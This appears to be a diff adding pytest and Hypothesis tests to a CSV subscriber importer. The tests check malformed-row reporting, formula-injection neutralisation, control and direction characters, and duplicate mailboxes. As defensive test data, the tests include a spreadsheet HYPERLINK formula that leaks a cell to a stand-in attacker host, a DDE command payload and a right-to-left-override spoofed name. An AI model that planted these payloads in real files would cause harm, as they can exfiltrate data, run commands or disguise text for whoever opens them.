@@ -2,12 +2,17 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import re
+import uuid
 from pathlib import Path
 from typing import Any
 
 import pytest
 from email_validator import validate_email
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from sqlalchemy import select
 
 from notifier import subscribers
@@ -410,3 +415,194 @@ def test_get_one_raises_for_nothing_and_for_ambiguous(engine, config, people):
 def test_report_counts_add_up(engine, config, tmp_path):
     report: ImportReport = import_csv(engine, config, write_csv(tmp_path, HEADER, GOOD_1, "x,y", GOOD_2))
     assert report.rows == report.imported + report.rejected + report.superseded == 3
+
+
+# Malformed CSV: every bad row reported by line, every valid row imported -----------------------
+
+STRAY_QUOTE = 'Q1,"bad"quote,q1@example.org,,77,edo,ru'
+UNTERMINATED = 'Q2,"unterminated,q2@example.org,,77,edo,ru'
+TOO_LONG = "Q3," + "x" * 140_000 + ",q3@example.org,,77,edo,ru"  # over csv's 131,072 field limit
+QUOTED = 'ACC-4,"Сидоров, Пётр",sidorov@example.org,,66,edo,ru'
+
+
+def test_malformed_rows_are_each_rejected_by_line_and_the_valid_ones_imported(engine, config, tmp_path):
+    path = write_csv(tmp_path, HEADER, GOOD_1, STRAY_QUOTE, GOOD_2, UNTERMINATED,
+                     "ACC-3,Третий,third@example.org,,77,edo,ru", TOO_LONG, QUOTED,
+                     'Q4,"bad"again,q4@example.org,,77,edo,ru')  # fmt: skip
+    errors = io.StringIO()
+    report = import_csv(engine, config, path, batch_size=2, errors_writer=errors)
+    assert sorted(by_external_id(engine)) == ["ACC-1", "ACC-2", "ACC-3", "ACC-4"]
+    assert by_external_id(engine)["ACC-4"].name == "Сидоров, Пётр"
+    reasons = {r.line: r.reason for r in report.rejections}
+    assert sorted(reasons) == [3, 5, 7, 9] and report.rejected == 4
+    assert "text follows the closing quote" in reasons[3] and "text follows the closing quote" in reasons[9]
+    assert "never closed" in reasons[5]
+    assert "longer than 32,768 characters" in reasons[7]
+    written = list(csv.reader(io.StringIO(errors.getvalue())))
+    assert [row[-2] for row in written[1:]] == ["3", "5", "7", "9"]
+    assert written[2][0] == UNTERMINATED and len(written[3][0]) < 300
+    again = import_csv(engine, config, path, batch_size=2)
+    assert (again.inserted, again.updated, again.unchanged, again.rejected) == (0, 0, 4, 4)
+
+
+def test_an_unterminated_quote_on_the_last_line_is_reported(engine, config, tmp_path):
+    report = import_csv(engine, config, write_csv(tmp_path, HEADER, GOOD_1, GOOD_2, UNTERMINATED))
+    assert report.inserted == 2 and [(r.line, "never closed" in r.reason) for r in report.rejections] == [
+        (4, True)
+    ]
+
+
+def test_an_unterminated_quote_does_not_swallow_rows_whose_quotes_come_later(engine, config, tmp_path):
+    later = [f'ACC-{n},"Name {n}",n{n}@example.org,,77,edo,ru' for n in range(5, 40)]
+    report = import_csv(engine, config, write_csv(tmp_path, HEADER, UNTERMINATED, *later))
+    assert report.inserted == 35 and [r.line for r in report.rejections] == [2]
+
+
+def test_blank_lines_are_not_rows(engine, config, tmp_path):
+    path = write_csv(tmp_path, HEADER, GOOD_1, "", "  ", GOOD_2, "", "", newline="\r\n")
+    report = import_csv(engine, config, path)
+    assert (report.rows, report.inserted, report.rejected) == (2, 2, 0)
+
+
+# Formula injection: neutralised in the errors file, kept as it was in the database --------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
+            "@SUM(A1:A9)", "\tTAB", " =1+1"]  # fmt: skip
+
+
+def test_cells_a_spreadsheet_would_run_are_neutralised_in_the_errors_file(engine, config, tmp_path):
+    bad = [f"B{n},{_quoted(formula)},,,77,edo,ru" for n, formula in enumerate(FORMULAS)]
+    path = write_csv(tmp_path, HEADER, *bad, 'ACC-1,"=1+1",ok@example.org,,77,edo,ru',
+                     'ACC-2,x,"=2+2",,77,edo,ru')  # fmt: skip
+    errors = io.StringIO()
+    report = import_csv(engine, config, path, errors_writer=errors)
+    written = list(csv.reader(io.StringIO(errors.getvalue())))[1:]
+    names = [row[1] for row in written[: len(FORMULAS)]]
+    assert names == ["'" + formula for formula in FORMULAS]
+    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t")) for row in written for cell in row)
+    assert by_external_id(engine)["ACC-1"].name == "=1+1"  # the database keeps what the file said
+    assert report.rejected == len(FORMULAS) + 1
+
+
+def _quoted(value: str) -> str:
+    return '"' + value.replace('"', '""') + '"'
+
+
+# Names: control, direction and invisible characters -------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "reason"),
+    [("Bad\x9b31mName", "name contains a control character (U+009B)"),
+     ("Next\x85Line", "name contains a control character (U+0085)"),
+     ("Line\u2028Separator", "name contains a control character (U+2028)"),
+     ("Иван\u202eвонаври", "name contains an invisible character that reverses or reorders the text (U+202E)"),
+     ("Isolate\u2066x\u2069", "(U+2066)")],
+)  # fmt: skip
+def test_control_and_direction_characters_in_a_name_are_refused(engine, config, tmp_path, name, reason):
+    report = import_csv(
+        engine, config, write_csv(tmp_path, HEADER, GOOD_1, f"ACC-9,{name},n@example.org,,77,edo,ru")
+    )
+    assert report.inserted == 1 and report.rejections[0].line == 3 and reason in report.rejections[0].reason
+
+
+def test_zero_width_characters_are_stripped(engine, config, tmp_path):
+    import_csv(
+        engine,
+        config,
+        write_csv(tmp_path, HEADER, "ACC\u200b-7,Ива\u200bнов\ufeff\u00ad,z@example.org,,77,edo,ru"),
+    )
+    assert by_external_id(engine)["ACC-7"].name == "Иванов"
+
+
+def test_add_refuses_a_direction_override_in_the_name(engine, config):
+    with pytest.raises(UsageError, match="U\\+202E"), write_session(engine) as session:
+        subscribers.add_subscriber(
+            session, config, name="moc.\u202eelppa", email="a@example.org", region="77"
+        )
+
+
+def test_add_without_services_adds_a_subscriber_of_none(engine, config):
+    with write_session(engine) as session:
+        added = subscribers.add_subscriber(session, config, name="Без услуг", email="n@example.org",
+                                           region="77", services=[])  # fmt: skip
+    assert added.services == "" and added.service_list == []
+
+
+# One mailbox under two account numbers -------------------------------------------------------------
+
+
+def test_one_email_under_two_account_numbers_is_imported_with_a_warning_naming_both_lines(
+    engine, config, tmp_path
+):
+    path = write_csv(tmp_path, HEADER, "ACC-1,Первая,same@example.org,,77,edo,ru", GOOD_2,
+                     "ACC-7,Вторая,Same@Example.ORG,,66,edo,ru", "ACC-1,Снова,same@example.org,,77,edo,ru",
+                     "ACC-8,Третья,other@example.org,,77,edo,ru")  # fmt: skip
+    report = import_csv(engine, config, path, batch_size=2)
+    assert len(all_subscribers(engine)) == 4 and report.shared_mailboxes == 1
+    [warning] = report.warnings
+    assert warning.email == "same@example.org" and warning.accounts == (("ACC-1", 2), ("ACC-7", 4))
+    assert "ACC-1 (line 2), ACC-7 (line 4)" in warning.message
+    assert report.as_dict()["warnings"][0]["accounts"][1] == {"external_id": "ACC-7", "line": 4}
+
+
+# Property: whatever mix of good, broken and blank lines, every good row lands and every bad one is
+# reported on its own line ----------------------------------------------------------------------------
+
+_NAME_CHARS = st.characters(codec="utf-8", categories=("L", "N", "Zs", "P"), exclude_characters="\x85")
+_CONTROL_CHARS = st.sampled_from(["\x00", "\x07", "\x1b", "\t", "\n", "\r", "\r\n", "\x7f", "\x85", "\x9b",
+                                  "\u2028", "\u2029", "\u202e", "\u202d", "\u2066", "\u200f"])  # fmt: skip
+_good = st.builds(
+    lambda name: ("good", name), st.text(_NAME_CHARS, min_size=1, max_size=20).filter(str.strip)
+)
+_bad = st.one_of(
+    st.builds(lambda name: ("stray-quote", name), st.text(_NAME_CHARS, max_size=10)),
+    st.builds(lambda name: ("unterminated", name), st.text(_NAME_CHARS, max_size=10)),
+    st.builds(lambda name, char, cut: ("control", name[:cut] + char + name[cut:]),
+              st.text(_NAME_CHARS, max_size=10), _CONTROL_CHARS, st.integers(0, 10)),
+)  # fmt: skip
+_LINE_BREAK = re.compile(r"\r\n|\r|\n")
+
+
+def _row(kind: str, name: str, key: str) -> str:
+    tail = f"{key}@example.org,,77,edo,ru\n"
+    if kind == "stray-quote":
+        return f'{key},"{name.replace(chr(34), "")}"x,{tail}'
+    if kind == "unterminated":
+        return f'{key},"{name.replace(chr(34), "")},{tail}'
+    out = io.StringIO()
+    csv.writer(out).writerow([key, name, f"{key}@example.org", "", "77", "edo", "ru"])
+    return out.getvalue()
+
+
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(rows=st.lists(st.one_of(_good, _bad, st.just(("blank", ""))), max_size=20), batch=st.integers(1, 6))
+def test_any_mix_of_good_broken_and_blank_rows(engine, config, tmp_path, rows, batch):
+    run = uuid.uuid4().hex[:8]
+    text, line, good, bad = HEADER + "\n", 2, set(), {}
+    for n, (kind, name) in enumerate(rows):
+        key = f"P{run}-{n}"
+        row = "\n" if kind == "blank" else _row(kind, name, key)
+        if kind == "good":
+            good.add(key)
+        elif kind != "blank":
+            bad[line] = key
+        text += row
+        line += len(_LINE_BREAK.findall(row))
+    path = tmp_path / f"{run}.csv"
+    path.write_text(text, encoding="utf-8", newline="")
+    report = import_csv(engine, config, path, batch_size=batch)
+    # A broken quote may pair with the next broken row's quote into one record spanning both
+    # lines (CSV's own rules): it is then reported once, with both lines.
+    covered = {n for r in report.rejections for n in range(r.line, r.line + r.lines)}
+    assert set(bad) <= covered and 0 < report.rejected <= len(bad) or not bad
+    assert report.inserted == len(good)
+    stored = {s.external_id for s in all_subscribers(engine) if s.external_id.startswith(f"P{run}-")}
+    assert stored == good
+    again = import_csv(engine, config, path, batch_size=batch)
+    assert (again.inserted, again.updated, again.unchanged, again.rejected) == (
+        0,
+        0,
+        len(good),
+        report.rejected,
+    )
